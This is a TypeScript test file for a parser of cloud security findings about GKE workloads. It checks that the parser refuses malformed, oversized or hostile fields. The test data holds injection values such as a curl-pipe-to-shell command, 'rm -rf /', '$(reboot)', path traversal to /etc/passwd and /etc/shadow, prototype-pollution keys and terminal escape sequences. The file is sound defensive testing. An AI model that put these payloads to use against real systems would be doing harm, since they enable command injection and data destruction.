import { createHash } from 'node:crypto';
import { inShape, notificationFor } from '../../test/fixtures/findings';
import { describeFinding } from './describe';
import { FindingError } from './errors';
import { intakeLimits } from './limits';
import { parseFinding } from './parse';

type JsonObject = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const parse = (value: unknown) => parseFinding(typeof value === 'string' ? value : JSON.stringify(value)).finding;

function rejection(value: unknown): FindingError {
  try {
    parse(value);
  } catch (error) {
    if (error instanceof FindingError) return error;
    throw new Error(`expected a FindingError, got ${String(error)}`, { cause: error });
  }
  throw new Error('expected the finding to be refused');
}

function gke(): JsonObject {
  return notificationFor('compiler', 'gke') as JsonObject;
}

describe('hostile names are refused at their field, before anything can use them', () => {
  test.each([
    ['Pod_Name', 'orders-api; curl http://x | sh'],
    ['Pod_Name', '$(reboot)'],
    ['Pod_Name', '../../etc/passwd'],
    ['Pod_Name', 'Orders-API'],
    ['Pod_Namespace', 'orders/../kube-system'],
    ['Pod_Namespace', 'a'.repeat(64)],
    ['Container_Name', 'api`id`'],
    ['VM_Instance_Name', 'node\nInjected: header'],
    ['Container_Image_Uri', 'repo/image:tag; rm -rf /'],
  ])('%s = %j', (key, value) => {
    const notification = gke();
    notification.finding.sourceProperties[key] = value;
    const error = rejection(notification);
    expect(error.path).toBe(`finding.sourceProperties.${key}`);
    expect(error.message).toMatch(/is not a/);
  });

  test('a cluster name with a path segment in the resource name is refused', () => {
    const notification = gke();
    notification.finding.resourceName = '//container.googleapis.com/projects/shop-prod-4417/locations/europe-west4/clusters/x%2F..';
    expect(rejection(notification).path).toBe('finding.resourceName');
  });

  test('a project display name that is no project ID is refused', () => {
    const notification = gke();
    notification.resource.projectDisplayName = 'shop"prod';
    expect(rejection(notification).path).toBe('resource.projectDisplayName');
  });

  test('the console shape names the field as the console spells it', () => {
    const notification = gke();
    notification.finding.sourceProperties.Pod_Name = 'x y';
    notification.resource.projectDisplayName = 'shop-prod-4417';
    expect(rejection(inShape(notification, 'console')).path).toBe('finding.source_properties.Pod_Name');
  });

  test.each(['/tmp/../../proc/1/root/etc/shadow', 'relative/bin', '/usr/bin/./gcc', '/bin/a\u0000b'])(
    'binary path %j is refused',
    (path) => {
      const notification = gke();
      notification.finding.processes[0].binary.path = path;
      expect(rejection(notification).path).toBe('finding.processes[0].binary.path');
    },
  );

  test('shell metacharacters in a binary path are kept as data: attackers name their files', () => {
    const notification = gke();
    notification.finding.processes[0].binary.path = '/tmp/$(id) ;|&`x`';
    expect(parse(notification).processes[0]!.binary!.path).toBe('/tmp/$(id) ;|&`x`');
  });
});

describe('prototype keys and duplicate keys are harmless', () => {
  afterEach(() => {
    expect(({} as JsonObject).polluted).toBeUndefined();
  });

  test('__proto__ keys anywhere pollute nothing and are not kept', () => {
    const text = JSON.stringify(gke())
      .replace('"finding":{', '"finding":{"__proto__":{"polluted":true},')
      .replace('"sourceProperties":{', '"sourceProperties":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":1}},')
      .replace(/^\{/, '{"__proto__":{"polluted":true},');
    const finding = parse(text);
    expect(Object.getPrototypeOf(finding)).toBe(Object.prototype);
    expect(JSON.stringify(finding)).not.toContain('polluted');
  });

  test('a field given twice in JSON text takes the last value, as JSON.parse does', () => {
    const text = JSON.stringify(gke()).replace('"severity":"HIGH"', '"severity":"LOW","severity":"CRITICAL"');
    expect(parse(text).severity).toBe('CRITICAL');
  });

  test('a field given both in snake_case and camelCase is refused as ambiguous', () => {
    const notification = gke();
    notification.finding.resource_name = '//container.googleapis.com/projects/other-proj-1/locations/us-east1/clusters/c';
    const error = rejection(notification);
    expect(error.path).toBe('finding.resource_name');
    expect(error.reason).toMatch(/given twice/);
  });
});

describe('size caps keep the model small and lose nothing', () => {
  test('a script over 2 MB is kept truncated, with its full length, hash and a flag', () => {
    const contents = `#!/bin/sh\n${'echo pwned # é\n'.repeat(150_000)}`;
    expect(Buffer.byteLength(contents)).toBeGreaterThan(2 * 1024 * 1024);
    const notification = notificationFor('script', 'gke') as JsonObject;
    notification.finding.processes[0].script.contents = contents;
    const { finding, raw } = parseFinding(JSON.stringify(notification));
    const script = finding.processes[0]!.script!;

    expect(script.contentsTruncatedByIntake).toBe(true);
    expect(Buffer.byteLength(script.contents!)).toBeLessThanOrEqual(intakeLimits.scriptContentsBytes);
    expect(contents.startsWith(script.contents!)).toBe(true);
    expect(script.contentsBytes).toBe(Buffer.byteLength(contents));
    expect(script.contentsSha256).toBe(createHash('sha256').update(contents).digest('hex'));
    expect((JSON.parse(raw) as JsonObject).finding.processes[0].script.contents === contents).toBe(true);
    expect(finding.intake.notes).toEqual([expect.stringContaining('kept the first')]);
    expect(JSON.stringify(finding).length).toBeLessThan(64 * 1024);
  });

  test('thousands of long arguments are cut to the per-process budget and flagged', () => {
    const notification = gke();
    notification.finding.processes[0].args = Array.from({ length: 5000 }, (_, i) => `--flag-${i}=${'x'.repeat(100)}`);
    const process = parse(notification).processes[0]!;
    expect(process.argsTruncated).toBe(true);
    expect(Buffer.byteLength(process.args.join(''))).toBeLessThanOrEqual(intakeLimits.argsBytesPerProcess);
  });

  test('a maximal finding still normalizes to well under Temporal’s 2 MB payload limit', () => {
    const notification = notificationFor('script', 'gke') as JsonObject;
    const process = notification.finding.processes[0];
    process.script.contents = 'x'.repeat(100_000);
    process.args = Array.from({ length: 100 }, () => 'y'.repeat(1000));
    notification.finding.processes = Array.from({ length: 60 }, () => structuredClone(process));
    notification.finding.indicator.domains = Array.from({ length: 5000 }, (_, i) => `d${i}.bad.example`);
    notification.finding.description = 'z'.repeat(1_000_000);
    const text = JSON.stringify(notification);
    expect(text.length).toBeGreaterThan(10 * 1024 * 1024);
    const finding = parse(text);
    expect(finding.processes).toHaveLength(intakeLimits.processes);
    expect(finding.indicators.domains).toHaveLength(intakeLimits.indicatorsPerKind);
    expect(JSON.stringify(finding).length).toBeLessThan(1024 * 1024);
  });

  test('input over the intake limit is refused before it is parsed', () => {
    const error = rejection(`{"pad":"${'a'.repeat(intakeLimits.rawBytes)}"}`);
    expect(error.reason).toMatch(/over the \d+-byte intake limit/);
  });

  test('deep nesting is refused with the path where it went too deep', () => {
    const notification = gke();
    let deep: unknown = 'bottom';
    for (let i = 0; i < 200; i++) deep = { inner: deep };
    notification.finding.extra = deep;
    expect(rejection(notification).reason).toMatch(/nested deeper than/);
  });
});

describe('malformed findings get one error naming the field', () => {
  test.each([
    ['missing finding name', (n: JsonObject) => delete n.finding.name, 'finding.name', /missing/],
    ['missing category', (n: JsonObject) => delete n.finding.category, 'finding.category', /missing/],
    ['empty category', (n: JsonObject) => (n.finding.category = '  '), 'finding.category', /category name/],
    ['category with control characters', (n: JsonObject) => (n.finding.category = 'Added\u001b[2J Binary'), 'finding.category', /printable/],
    ['malformed finding name', (n: JsonObject) => (n.finding.name = 'findings/1'), 'finding.name', /finding name/],
    ['missing pod name', (n: JsonObject) => delete n.finding.sourceProperties.Pod_Name, 'finding.sourceProperties.Pod_Name', /missing/],
    ['pod name as a number', (n: JsonObject) => (n.finding.sourceProperties.Pod_Name = 42), 'finding.sourceProperties.Pod_Name', /string/],
    ['event time as prose', (n: JsonObject) => (n.finding.eventTime = 'yesterday'), 'finding.eventTime', /RFC 3339/],
    ['event and create time missing', (n: JsonObject) => { delete n.finding.eventTime; delete n.finding.createTime; }, 'finding.eventTime', /missing/],
    ['severity unknown', (n: JsonObject) => (n.finding.severity = 'APOCALYPTIC'), 'finding.severity', /one of/],
    ['args not a list', (n: JsonObject) => (n.finding.processes[0].args = 'gcc -o x'), 'finding.processes[0].args', /array/],
    ['pid not an integer', (n: JsonObject) => (n.finding.processes[0].pid = '12.5'), 'finding.processes[0].pid', /integer/],
    ['size beyond 2^53', (n: JsonObject) => (n.finding.processes[0].binary.size = '99999999999999999999'), 'finding.processes[0].binary.size', /safe integer/],
    ['sha256 not hex', (n: JsonObject) => (n.finding.processes[0].binary.sha256 = 'z'.repeat(64)), 'finding.processes[0].binary.sha256', /SHA-256/],
    ['negative size', (n: JsonObject) => (n.finding.processes[0].binary.size = -1), 'finding.processes[0].binary.size', /negative/],
    ['resource name missing everywhere', (n: JsonObject) => { delete n.finding.resourceName; delete n.resource.name; }, 'finding.resourceName', /missing/],
    ['finding not an object', (n: JsonObject) => (n.finding = 'x'), 'finding', /object/],
    // No store can hold these: PostgreSQL refuses U+0000 and lone surrogates in text and jsonb.
    ['a NUL in a process argument', (n: JsonObject) => (n.finding.processes[0].args[1] = 'a\u0000b'), 'finding.processes[0].args[1]', /NUL character/],
    ['a NUL in a free-form property name', (n: JsonObject) => (n.finding.sourceProperties['x\u0000'] = 'y'), 'finding.sourceProperties["x\\u0000"]', /NUL character/],
    ['a lone surrogate in the description', (n: JsonObject) => (n.finding.description = 'bad \ud800 half'), 'finding.description', /lone UTF-16 surrogate/],
  ])('%s', (_label, mutate, path, reason) => {
    const notification = gke();
    mutate(notification);
    const error = rejection(notification);
    expect(error.path).toBe(path);
    expect(error.reason).toMatch(reason);
    expect(error.message).toBe(`invalid finding at ${path}: ${error.reason}`);
  });

  test.each([
    ['not JSON', '{"finding": ', /not JSON/],
    ['a JSON array', '[1,2]', /JSON object/],
    ['an unrelated object', '{"hello": "world"}', /must be a finding/],
  ])('%s', (_label, text, reason) => {
    const error = rejection(text);
    expect(error.path).toBe('');
    expect(error.reason).toMatch(reason);
  });

  test('bytes that are not UTF-8 are refused', () => {
    expect(() => parseFinding(Buffer.from([0x7b, 0xff, 0xfe, 0x7d]))).toThrow(/not valid UTF-8/);
  });
});

test('terminal escape sequences in untrusted fields are shown escaped, never raw', () => {
  const notification = gke();
  notification.finding.processes[0].args = ['gcc', '\u001b]0;owned\u0007\u001b[2J'];
  const text = describeFinding(parse(notification));
  expect(text).not.toContain('\u001b');
  expect(text).toContain('\\u001b]0;owned\\u0007');
});
